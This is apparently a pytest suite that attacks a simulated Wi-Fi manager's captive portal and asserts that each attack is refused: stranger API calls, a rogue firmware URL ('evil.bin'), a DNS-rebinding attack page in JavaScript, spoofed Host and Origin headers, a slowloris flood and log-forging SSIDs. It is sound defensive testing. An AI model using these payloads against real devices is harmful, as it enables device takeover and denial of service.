"""Issue 13's attacks, run as a stranger in radio range would run them, against `make sim`'s
stack (tools/sim/launch.py: the real package on MicroPython, the simulated radio, the portal and
the captive DNS on loopback). Each attack is refused or harmless, and a normal user is still
served meanwhile (answered; how fast is `make bench`'s portal_slow_body50_*). The last test
greps every response, page, console line and file for the marker password and the setup key.
"""

import json
import os
import re
import time

import pytest
from helpers.portal import Sim, _Client, slow_bodies

CHROMIUM = "/usr/bin/chromium"
MARKER_PW = "MARKER-pw-5e1f7a90"  # the password of the network the owner provisions


def scenario(tmp_path, known=True, in_range=True):
    """A flat whose router's password is MARKER_PW: known or not (first boot), in range or
    down (the provisioned device then runs its fallback access point)."""
    aps = [
        {"ssid": "Neighbour", "bssid": "02:00:00:00:00:02", "channel": 11, "rssi": -70,
         "security": "wpa2", "password": "neighbour-pass", "ip": "10.0.0.9"},
    ]  # fmt: skip
    if in_range:
        aps.append(
            {"ssid": "Home", "bssid": "02:00:00:00:00:01", "channel": 6, "rssi": -50,
             "security": "wpa2", "password": MARKER_PW, "ip": "192.168.1.57"}
        )  # fmt: skip
    doc = {"access_points": aps}
    if known:
        doc["known_networks"] = [{"ssid": "Home", "password": MARKER_PW}]
    path = tmp_path / "attack-scenario.json"
    path.write_text(json.dumps(doc))
    return path


class Recorder(_Client):
    """A client that keeps every answer it got: the leak check reads them all."""

    seen = []

    def request(self, method, path, body=None, headers=None, timeout=10, session=True):
        status, h, data = super().request(method, path, body, headers, timeout, session)
        self.seen.append((method, path, json.dumps(h), data))
        return status, h, data


@pytest.fixture
def home(tmp_path):
    with Sim(scenario(tmp_path), tmp_path / "state") as sim:
        sim.api = Recorder(sim.port)
        sim.api.wait_status(lambda s: s["state"] == "connected")
        yield sim


def owner(sim):
    """A client of the device's owner: its session unlocked with the setup key."""
    c = Recorder(sim.port)
    assert c.unlock(sim.setup_key()) == (200, {"unlocked": True})
    return c


def untouched(sim):
    o = owner(sim)
    st = o.json("/api/status")
    assert o.json("/api/networks")["networks"] == ["Home"]
    assert st["state"] == "connected" and st["ssid"] == "Home"
    assert st["trial"] is None and st["ota"] is None


# --- who may change a provisioned device ---------------------------------------------------------


def test_a_stranger_cannot_change_a_provisioned_device(home):
    """With a session of their own (anyone can have one) but without the setup key: no
    update, no forgetting or reordering, no other network, no closing the access point."""
    stranger = Recorder(home.port)
    attempts = [
        ("/api/ota", {"url": "http://10.0.0.9/evil.bin"}),
        ("/api/forget", {"ssid": "Home"}),
        ("/api/networks/order", {"ssid": "Home"}),
        ("/api/connect", {"ssid": "Neighbour", "password": "neighbour-pass"}),
        ("/api/finish", {}),
    ]
    for path, fields in attempts:
        status, doc = stranger.post(path, fields)
        assert (status, doc["field"]) == (403, "key"), path
    assert stranger.get("/api/networks")[0] == 403  # which networks it knows: the owner's
    # guessing: a wrong key, and the next try within a second is not even compared
    assert stranger.unlock("aaaa-aaaa-aaaa") == (403, {"error": "wrong setup key", "field": "key"})
    assert stranger.unlock(home.setup_key())[0] == 429
    untouched(home)


def test_the_fallback_access_point_of_a_provisioned_device_is_never_open(tmp_path):
    with Sim(scenario(tmp_path, in_range=False), tmp_path / "state") as sim:
        st = sim.api.wait_status(lambda s: s["ap_active"])
        assert st["provisioned"] and st["ap_security"] == 3  # WPA2-PSK, the setup key
    with Sim(scenario(tmp_path, known=False), tmp_path / "first") as sim:
        st = sim.api.wait_status(lambda s: s["ap_active"])
        assert not st["provisioned"] and st["ap_security"] == 0  # first boot: a phone alone


def test_first_provisioning_needs_no_key_and_shows_it_once(tmp_path):
    with Sim(scenario(tmp_path, known=False), tmp_path / "state") as sim:
        phone = Recorder(sim.port)
        phone.wait_status(lambda s: s["ap_active"])
        assert phone.post("/api/connect", {"ssid": "Home", "password": MARKER_PW})[0] == 202
        st = phone.wait_status(lambda s: s["trial"]["state"] != "trying")
        assert st["trial"]["state"] == "connected" and st["setup_key"] == sim.setup_key()
        assert "setup_key" not in phone.json("/api/status")  # once
        assert "setup_key" not in Recorder(sim.port).json("/api/status")  # to that session only
        # the one who provisioned it owns it now: its session may go on
        assert phone.post("/api/finish", {})[0] == 200
        # a stranger's provisioning is a change of a provisioned device from now on
        stranger = Recorder(sim.port)
        assert stranger.post("/api/connect", {"ssid": "Neighbour", "password": "x" * 8})[0] == 403


# --- requests for another name: DNS rebinding ----------------------------------------------------


ATTACK_PAGE = """<!doctype html><script>
window.done = (async () => {
  const out = {};
  const grab = async (name, path, opts) => {
    try {
      const r = await fetch(path, opts);
      out[name] = r.status + " " + (await r.text()).slice(0, 200);
    } catch (e) { out[name] = "blocked: " + e.message; }
  };
  await grab("session", "/api/session");
  let token = "";
  try { token = JSON.parse(out.session.slice(4)).token; } catch (e) {}
  const post = (body) => ({method: "POST", headers: {"X-Token": token,
    "Content-Type": "application/x-www-form-urlencoded"}, body: body});
  await grab("forget", "/api/forget", post("ssid=Home"));
  await grab("ota", "/api/ota", post("url=http%3A%2F%2F10.0.0.9%2Fevil.bin"));
  await grab("connect", "/api/connect", post("ssid=Neighbour&password=neighbour-pass"));
  await grab("status", "/api/status");
  return out;
})();
</script>"""


def test_dns_rebinding_from_another_origin_gets_nothing(home):
    """A page of evil.test (Chromium resolves evil.test to the device, as a rebinding DNS
    would) reads no token and changes nothing: every request of its own origin meets the
    redirect to the portal, never the API."""
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip("no Chromium at %s (apt-get install chromium)" % CHROMIUM)
    playwright = pytest.importorskip("playwright.sync_api")
    origin = "http://evil.test:%d" % home.port
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--host-resolver-rules=MAP evil.test 127.0.0.1",
                # what stands between evil.test and the device is the device, not Chromium
                "--disable-features=PrivateNetworkAccessRespectPreflightResults,"
                "BlockInsecurePrivateNetworkRequests,LocalNetworkAccessChecks",
            ],
        )
        page = browser.new_page()
        # the attacker's own page, as its server would serve it before the rebinding
        page.route(
            origin + "/attack.html",
            lambda route: route.fulfill(body=ATTACK_PAGE, content_type="text/html"),
        )
        page.goto(origin + "/attack.html")
        out = page.evaluate("window.done")
        browser.close()
    for name in ("session", "forget", "ota", "connect", "status"):
        assert '"token"' not in out[name] and not out[name].startswith("2"), (name, out)
    # the requests did reach the device, which answered them as another site's
    probes = home.api.json("/api/status")["portal"]["probes"]
    assert any(p["os"] == "other" and p["host"].startswith("evil.test") for p in probes), probes
    untouched(home)


def test_host_and_origin_probes(home):
    api = home.api
    for host in ("evil.example", "evil.example:%d" % home.port, "192.168.1.57.evil.test"):
        for path in ("/api/session", "/api/status", "/", "/api/networks"):
            status, headers, body = api.get(path, {"Host": host})
            assert status == 302 and headers["location"] == api.url, (host, path)
            assert b"token" not in body
    for host in ("127.0.0.1:%d" % home.port, "192.168.1.57", "wifimgr-123456.local"):
        assert api.get("/api/session", {"Host": host})[0] == 200, host
    # a captive-portal check keeps its redirect, whatever its host
    status, headers, _ = api.get("/generate_204", {"Host": "connectivitycheck.gstatic.com"})
    assert status == 302 and headers["location"] == api.url
    o = owner(home)
    for header in ({"Origin": "http://evil.example"}, {"Referer": "http://evil.example/x"}):
        status, doc = o.post("/api/forget", {"ssid": "Home"}, headers=header)
        assert status == 403 and "another site" in doc["error"]
    untouched(home)


# --- slow clients --------------------------------------------------------------------------------


@pytest.mark.parametrize("with_session", [False, True])
def test_body_slowloris_with_50_clients_leaves_the_phone_served(home, with_session):
    """50 connections send POST /api/connect heads announcing 2000 bytes, then one byte each
    0.5 s, reopening whatever is cut off; without a token (refused from the head) and with a
    session of their own (evicted like slow heads). A phone's status requests and its page
    are answered, the page as the page."""
    headers = ""
    if with_session:
        a = _Client(home.port)
        headers = "Cookie: %s\r\nX-Token: %s\r\n" % (a._cookie, a.token())
    with slow_bodies(home.port, 50, 0.5, headers) as attack:
        time.sleep(1.0)
        for _ in range(6):
            status, _, body = home.api.get("/api/status")
            assert status == 200
            status, h, page = home.api.get("/")
            assert status == 200 and h["content-type"].startswith("text/html")
            assert b"<!doctype html>" in page
            time.sleep(0.3)
        assert attack["reopened"] > 0  # they were cut off, and came back
    assert home.api.json("/api/status")["portal"]["open"] <= 4
    untouched(home)


# --- text from the air and from clients ----------------------------------------------------------


def test_log_forging_ssid_stays_one_escaped_line(home):
    o = owner(home)
    forged = "a\nERROR:wifimgr:FORGED\r\x1b[2J"
    assert o.post("/api/connect", {"ssid": forged, "password": "whatever-1"})[0] == 202
    o.wait_status(lambda s: s["trial"] and s["trial"]["state"] == "failed", timeout=40)
    console = home.console()
    assert "\x1b" not in console
    assert not [line for line in console.splitlines() if line.startswith("ERROR:wifimgr:FORGED")]
    assert "a\\nERROR:wifimgr:FORGED\\r\\x1b[2J" in console


def test_lone_surrogate_and_80_byte_password_are_refused(home):
    o = owner(home)
    body = b'{"ssid": "\\ud800", "password": "tulip-garden-42"}'
    status, doc = o.post("/api/connect", body=body, ctype="application/json")
    assert (status, doc["field"]) == (400, "ssid") and "UTF-8" in doc["error"]
    body = json.dumps({"ssid": "Home", "password": "\u00e9" * 40}).encode()
    status, doc = o.post("/api/connect", body=body, ctype="application/json")
    assert (status, doc["field"]) == (400, "password") and "ASCII" in doc["error"]
    status, _, raw = o.get("/api/status")
    raw.decode("utf-8")
    untouched(home)


# --- no leak -------------------------------------------------------------------------------------


def test_no_password_or_setup_key_leaks_anywhere(tmp_path):
    """The owner provisions the device (MARKER_PW), a stranger pokes at it, the owner uses
    every page and endpoint. The password and the setup key appear in no response, page,
    console line or file, but for what the design shows: the setup key on the console line
    printed at boot and, once, in the status that the provisioning session polled."""
    Recorder.seen = []
    with Sim(scenario(tmp_path, known=False), tmp_path / "state") as sim:
        phone = Recorder(sim.port)
        phone.wait_status(lambda s: s["ap_active"])
        assert phone.post("/api/connect", {"ssid": "Home", "password": "wrong-pass-1"})[0] == 202
        phone.wait_status(lambda s: s["trial"]["state"] != "trying")
        assert phone.post("/api/connect", {"ssid": "Home", "password": MARKER_PW})[0] == 202
        phone.wait_status(lambda s: s["trial"]["state"] != "trying")
        key = sim.setup_key()
        stranger = Recorder(sim.port)
        stranger.unlock("wrong-" + key)
        stranger.post("/api/connect", {"ssid": "Home", "password": MARKER_PW})
        o = owner(sim)
        for path in ("/", "/api/session", "/api/status", "/api/scan", "/api/networks", "/data"):
            o.get(path)
            stranger.get(path)
        o.post("/api/ota", {"url": "http://127.0.0.1:9/fw.bin"})
        time.sleep(1.0)
        o.get("/api/status")
        console = sim.console()
        state = sim.state
    shown = [seen for seen in Recorder.seen if key.encode() in seen[3]]
    assert len(shown) == 1 and shown[0][1] == "/api/status", [s[:2] for s in shown]
    for _, path, headers, body in Recorder.seen:
        assert MARKER_PW.encode() not in body and MARKER_PW not in headers, path
        assert key not in headers
    lines = [line for line in console.splitlines() if key in line or MARKER_PW in line]
    assert all(re.fullmatch(r"wifimgr: setup key " + key, line) for line in lines), lines
    assert lines  # printed at boot
    files = [f for f in state.rglob("*") if f.is_file()]
    assert any(f.suffix == ".store" for f in files)
    for f in files:
        data = f.read_bytes()
        assert MARKER_PW.encode() not in data and key.encode() not in data, f
